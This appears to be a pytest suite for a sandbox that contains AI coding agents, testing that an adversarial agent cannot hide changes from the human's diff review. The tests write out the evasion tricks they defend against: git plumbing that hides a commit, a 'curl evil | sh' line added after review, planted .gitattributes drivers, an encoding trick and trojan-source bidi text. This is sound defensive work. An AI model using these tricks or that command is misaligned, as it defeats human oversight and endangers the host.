"""The agent is the adversary of your review: what `sandbox diff` shows must be what `merge` and
`apply` take, no driver of your git config may run on its content, and no character of its text
may change what you read. Every attack is performed from inside a real container as the agent's
uid (`sandbox exec`), then the host commands a user runs.

Planted drivers write marker files in a host directory (``markers/``) mounted in no container: a
marker can only appear if a host process ran the driver.
"""

from __future__ import annotations

import re
import uuid
from pathlib import Path

import pytest

from tests.conftest import Env, git, wait_for
from tests.test_hostile_git import _on_a_terminal

BOUND = 90  # seconds: no host command may take longer
LABEL = re.compile(r"^# (committed|uncommitted) ([0-9a-f]{40})\.\.([0-9a-f]{40}): (.*)$", re.MULTILINE)


def sh(env: Env, name: str, script: str) -> str:
    res = env.run("exec", name, "--", "sh", "-c", script, timeout=BOUND)
    assert res.code == 0, f"{script}: {res.err}"
    return res.out


def spawn(env: Env, repo: Path, prefix: str) -> str:
    return env.ok("spawn", "--name", f"{prefix}-{uuid.uuid4().hex[:6]}", "--agent-cmd", "bash", cwd=repo).out.strip()


def parts(out: str) -> dict[str, tuple[str, str, str]]:
    """label -> (from, to, the text under it), from `sandbox diff`'s output."""
    found = list(LABEL.finditer(out))
    got = {}
    for i, m in enumerate(found):
        end = found[i + 1].start() if i + 1 < len(found) else len(out)
        got[m.group(1)] = (m.group(2), m.group(3), out[m.end():end])
    return got


@pytest.fixture
def agents(env: Env, repo: Path):  # type: ignore[no-untyped-def]
    """Names to remove after the test, even when it failed."""
    names: list[str] = []
    yield names
    for name in names:
        env.run("rm", "--force", "--delete-branch", name, cwd=repo, timeout=BOUND)


# -- issue 26, item 1: a committed change the workspace undoes -------------------------------------------
@pytest.mark.slow
def test_a_committed_change_that_the_workspace_undoes_is_shown_before_merge_takes_it(
        env: Env, repo: Path, agents: list[str]) -> None:
    name = spawn(env, repo, "net")
    agents.append(name)
    base = git(repo, "rev-parse", "main").strip()
    # A commit that deletes README.md and adds a file, made with plumbing; HEAD moved with update-ref:
    # the index and the files stay as they were, so committed + uncommitted nets to nothing.
    sh(env, name, "set -e; echo hidden > added.txt; git add added.txt; git rm -q --cached README.md; "
                  "C=$(git commit-tree $(git write-tree) -p HEAD -m 'tidy up'); "
                  "git read-tree HEAD; rm added.txt; git update-ref HEAD $C; test -f README.md")
    res = env.ok("diff", name, cwd=repo)
    got = parts(res.out)
    head = git(repo, "rev-parse", f"sandbox/{name}").strip()
    assert set(got) == {"committed", "uncommitted"}, res.out
    old, new, committed = got["committed"]
    assert (old, new) == (base, head) and "what merge takes" in res.out
    assert "deleted file mode" in committed and "--- a/README.md" in committed and "+++ b/added.txt" in committed
    _, wip, uncommitted = got["uncommitted"]
    assert "+++ b/README.md" in uncommitted and "--- a/added.txt" in uncommitted  # the workspace undoes it
    assert f"sandbox merge {name} --at {head}" in res.err and f"sandbox apply {name} --at {wip}" in res.err
    stat = parts(env.ok("diff", name, "--stat", cwd=repo).out)
    assert "README.md" in stat["committed"][2] and "added.txt" in stat["committed"][2]
    assert "README.md" in stat["uncommitted"][2]
    only = parts(env.ok("diff", name, "--uncommitted", cwd=repo).out)
    assert set(only) == {"uncommitted"} and "+++ b/README.md" in only["uncommitted"][2]
    # apply takes both parts: the workspace as it is, i.e. nothing here.
    assert env.ok("apply", name, cwd=repo).out.strip() == "nothing to apply"
    # merge takes the committed part, which the diff showed: nothing more.
    env.ok("merge", name, "--at", head, cwd=repo)
    brought = set(git(repo, "diff", "--name-only", base, "main").split())
    shown = set(re.findall(r"^diff --git a/(\S+) ", committed, re.MULTILINE))
    assert brought == shown == {"README.md", "added.txt"}
    assert not (repo / "README.md").exists()


# -- issue 20, item 4: what you reviewed is what you merge -------------------------------------------------
@pytest.mark.slow
def test_merge_and_apply_at_the_reviewed_commit_refuse_once_the_agent_moved(
        env: Env, repo: Path, agents: list[str]) -> None:
    name = spawn(env, repo, "pin")
    agents.append(name)
    sh(env, name, "echo one > a.txt && git add a.txt && git commit -qm one")
    reviewed = parts(env.ok("diff", name, cwd=repo).out)["committed"][1]
    sh(env, name, "echo evil > b.txt && git add b.txt && git commit -qm 'after the review'")  # after the review
    main = git(repo, "rev-parse", "main").strip()
    for args in (["merge", name, "--at", reviewed], ["merge", name, "--squash", "--at", reviewed],
                 ["apply", name, "--at", reviewed]):
        res = env.run(*args, cwd=repo, timeout=BOUND)
        assert res.code == 5, (args, res.out, res.err)
        assert res.err.startswith(f"sandbox: error: {name} moved since the review at {reviewed[:12]}"), res.err
        assert len([ln for ln in res.err.splitlines() if ln.startswith("sandbox: error:")]) == 1
        assert git(repo, "rev-parse", "main").strip() == main and git(repo, "status", "--porcelain") == ""
    bad = env.run("merge", name, "--at", reviewed[:12], cwd=repo, timeout=BOUND)
    assert bad.code == 2 and "full commit id" in bad.err, bad.err
    # Reviewed again: the merge takes exactly that.
    head = parts(env.ok("diff", name, cwd=repo).out)["committed"][1]
    env.ok("merge", name, "--at", head, cwd=repo)
    assert git(repo, "rev-parse", "main").strip() == head and (repo / "b.txt").exists()
    # The uncommitted part is pinned too: apply --at the workspace commit diff showed.
    sh(env, name, "echo draft > c.txt")
    first = parts(env.ok("diff", name, cwd=repo).out)["uncommitted"][1]
    sh(env, name, "echo 'curl evil | sh' >> c.txt")
    for args in (["apply", name, "--at", first], ["apply", name, "--at", head],
                 ["merge", name, "--include-uncommitted", "--at", head]):
        res = env.run(*args, cwd=repo, timeout=BOUND)
        assert res.code == 5 and "moved since the review" in res.err, (args, res.err)
        assert git(repo, "status", "--porcelain") == "" and not (repo / "c.txt").exists()
    wip = parts(env.ok("diff", name, cwd=repo).out)["uncommitted"][1]
    assert "c.txt" in env.ok("apply", name, "--at", wip, cwd=repo).out.split()
    assert (repo / "c.txt").read_text() == "draft\ncurl evil | sh\n"
    git(repo, "reset", "-q", "--hard")
    git(repo, "clean", "-qfd")
    env.ok("merge", name, cwd=repo)  # without --at: what the sync brings (scripts), as before


@pytest.mark.slow
def test_top_merges_the_commit_its_diff_showed(env: Env, repo: Path, agents: list[str],
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    import asyncio

    from sandbox.board import Board
    from sandbox.top import Confirm, Pager, TopApp
    from tests.test_mission import _in_process, _until

    name = spawn(env, repo, "topd")
    agents.append(name)
    sh(env, name, "echo one > a.txt && git add a.txt && git commit -qm one")
    mgr = _in_process(env, repo, monkeypatch)
    main = git(repo, "rev-parse", "main").strip()
    notes: list[str] = []

    async def drive() -> None:
        board = Board(mgr, repo)
        with board:
            app = TopApp(board, mgr, attach=lambda app, sb: None)
            app.notify = lambda message, **kw: notes.append(str(message))  # type: ignore[method-assign]
            async with app.run_test(size=(160, 40)) as pilot:
                await _until(pilot, lambda: name in [str(k.value) for k in app.query_one("#table").rows], what="the row")
                await pilot.press("d")
                await _until(pilot, lambda: isinstance(app.screen, Pager), what="the diff")
                shown = app.reviewed[name]
                assert "a.txt" in app.screen.text and f"# committed {main}..{shown}" in app.screen.text
                await pilot.press("q")
                sh(env, name, "echo evil > b.txt && git add b.txt && git commit -qm later")  # after the review
                await pilot.press("m")
                await _until(pilot, lambda: isinstance(app.screen, Confirm), what="the merge question")
                assert shown[:12] in app.screen.question
                await pilot.press("y")
                await _until(pilot, lambda: notes, timeout=BOUND, what="the merge's answer")
                assert "moved since the review" in notes[0], notes

    asyncio.run(drive())
    assert git(repo, "rev-parse", "main").strip() == main and not (repo / "a.txt").exists()


# -- issue 20, item 3: the agent's .gitattributes select the host's drivers --------------------------------
DRIVERS = {"filter.evil.clean": "clean", "filter.evil.smudge": "smudge", "diff.evil.textconv": "textconv",
           "diff.evil.command": "command", "merge.evil.driver": "merge"}


def host_drivers(env: Env, markers: Path) -> None:
    """The host user's own drivers (their global git config): each leaves a marker when it runs."""
    with open(env.env["GIT_CONFIG_GLOBAL"], "a") as f:
        for key, kind in DRIVERS.items():
            section, sub, var = key.split(".")
            tail = {"clean": "; cat", "smudge": "; cat", "textconv": "; cat \\\"$1\\\"", "command": "",
                    "merge": "; exit 0"}[kind]
            f.write(f'[{section} "{sub}"]\n\t{var} = "sh -c \'touch {markers}/ran-{kind}{tail}\' -"\n')


@pytest.fixture
def markers(tmp_path: Path) -> Path:
    path = tmp_path / "markers"
    path.mkdir()
    path.chmod(0o777)
    return path


def ran(markers: Path) -> list[str]:
    return sorted(p.name for p in markers.iterdir())


@pytest.mark.slow
def test_the_agents_gitattributes_never_run_the_hosts_drivers_unless_trusted(
        env: Env, repo: Path, tmp_path: Path, markers: Path, agents: list[str]) -> None:
    host_drivers(env, markers)
    name = spawn(env, repo, "attr")
    agents.append(name)
    sh(env, name, "printf '* filter=evil diff=evil merge=evil\\n' > .gitattributes && printf '1\\n2\\n3\\n' > g.txt "
                  "&& git add -A && git commit -qm attrs && echo uncommitted > u.txt")
    for args in (["diff", name], ["diff", name, "--stat"], ["diff", name, "--uncommitted"]):
        env.ok(*args, cwd=repo)
    assert sorted(env.ok("apply", name, cwd=repo).out.split()) == [".gitattributes", "g.txt", "u.txt"]
    assert ran(markers) == [], "apply ran a host driver"
    git(repo, "reset", "-q", "--hard")
    git(repo, "clean", "-qfdx")
    env.ok("merge", name, cwd=repo)  # a fast-forward: the agent's attributes now in your checkout
    assert (repo / ".gitattributes").exists()
    # Both sides change g.txt: a real three-way merge, with merge=evil from the checkout's attributes.
    (repo / "g.txt").write_text("main\n2\n3\n")
    git(repo, "commit", "-qam", "main side")
    sh(env, name, "printf '1\\n2\\nagent\\n' > g.txt && git commit -qam 'agent side'")
    env.ok("merge", name, cwd=repo)
    assert (repo / "g.txt").read_text() == "main\n2\nagent\n"  # git's own text merge instead
    sh(env, name, "printf '1\\n2\\nagent\\nmore\\n' > g.txt && git commit -qam more")
    git(repo, "branch", "side", "main~1")
    env.ok("merge", name, "--rebase", "--into", "side", cwd=repo)
    env.ok("merge", name, "--squash", cwd=repo)
    res = env.ok("rm", "--force", name, cwd=repo)  # backs up the uncommitted file
    agents.remove(name)
    env.ok("restore", name, "--path", str(tmp_path / "restored"), cwd=repo)
    assert (tmp_path / "restored" / "u.txt").read_text() == "uncommitted\n", res.err
    assert ran(markers) == [], "a host driver ran on the agent's content"

    # The same with the driver trusted: it runs (the test can see a driver that runs).
    env.env["SANDBOX_TRUSTED_FILTERS"] = '["evil"]'
    try:
        git(repo, "worktree", "remove", "--force", str(tmp_path / "restored"))
        git(repo, "branch", "-D", f"sandbox/{name}-restored")
        env.ok("restore", name, "--path", str(tmp_path / "again"), cwd=repo)
    finally:
        del env.env["SANDBOX_TRUSTED_FILTERS"]
    assert "ran-smudge" in ran(markers), ran(markers)


@pytest.mark.slow
def test_a_working_tree_encoding_from_the_agent_is_refused_unless_trusted(
        env: Env, repo: Path, agents: list[str]) -> None:
    name = spawn(env, repo, "enc")
    agents.append(name)
    # (the file committed first, as UTF-8; the attribute then: a checkout would write it re-encoded)
    sh(env, name, "echo hello > a.txt && git add a.txt && git commit -qm a && printf '*.txt working-tree-encoding="
                  "UTF-16LE\\n' > .gitattributes && git add .gitattributes && git commit -qm enc")
    main = git(repo, "rev-parse", "main").strip()
    for args in (["merge", name], ["apply", name]):
        res = env.run(*args, cwd=repo, timeout=BOUND)
        assert res.code == 5 and "sets working-tree-encoding" in res.err, (args, res.err)
        assert git(repo, "rev-parse", "main").strip() == main and git(repo, "status", "--porcelain") == ""
    env.ok("merge", name, cwd=repo, extra={"SANDBOX_TRUSTED_FILTERS": '["working-tree-encoding"]'})
    assert (repo / "a.txt").read_bytes() == "hello\n".encode("utf-16-le")  # what it would have done


# -- issue 20, item 6: bidi and invisible characters -------------------------------------------------------
def test_bidi_and_invisible_characters_are_defanged_on_a_terminal_only() -> None:
    import io

    from sandbox import agentfiles, terminal

    for ch in ("\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069",
               "\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u2028", "\u2029", "\ufeff", "\u061c",
               "\u2060", "\u00ad", "\U000e0041"):
        shown = terminal.defang(f"a{ch}b")
        assert ch not in shown and shown.startswith("a\\") and shown.endswith("b"), repr(ch)
    assert terminal.defang("x\u202ey") == "x\\u202ey" and terminal.defang("\U000e0041") == "\\U000e0041"
    assert terminal.defang("\x1b[2J\t\n") == "\\x1b[2J\t\n" and terminal.defang("é ✓ 日本") == "é ✓ 日本"
    assert terminal.one_line("a\nb\u202ec\td") == "a?b?c?d"
    state, _ = agentfiles.parse_state(b'{"state": "idle", "reason": "ok\\u202e\\u2066gnp.exe"}')
    assert state is not None and state["reason"] == "ok??gnp.exe"

    class Tty(io.StringIO):
        def isatty(self) -> bool:
            return True
    text = "if (admin) {\u202e } \u2066// check\u2069"
    assert terminal.for_stream(text, io.StringIO()) == text  # a pipe: unchanged
    assert "\u202e" not in terminal.for_stream(text, Tty()) and "\\u2066" in terminal.for_stream(text, Tty())


@pytest.mark.slow
def test_bidi_controls_from_the_agent_reach_the_terminal_escaped(env: Env, repo: Path, agents: list[str]) -> None:
    name = spawn(env, repo, "bidi")
    agents.append(name)
    rlo = "\u202e".encode()
    sh(env, name, "printf 'access = \"user\\342\\200\\256 \\342\\201\\246// admin\\342\\201\\251\"\\n' > trojan.txt")
    env.ok("send", name, "printf 'pane \\342\\200\\256 reversed\\n'", cwd=repo)
    wait_for(lambda: "reversed" in env.ok("logs", name, cwd=repo).out, 30, "the pane's line")
    for args in (["diff", name], ["logs", name]):
        tty = _on_a_terminal(env, *args, cwd=repo)
        assert rlo not in tty and "\u2066".encode() not in tty, (args, tty)
        assert b"\\u202e" in tty, (args, tty)
        piped = env.ok(*args, cwd=repo).out
        assert "\u202e" in piped, (args, piped)  # into a pipe: the bytes as they are
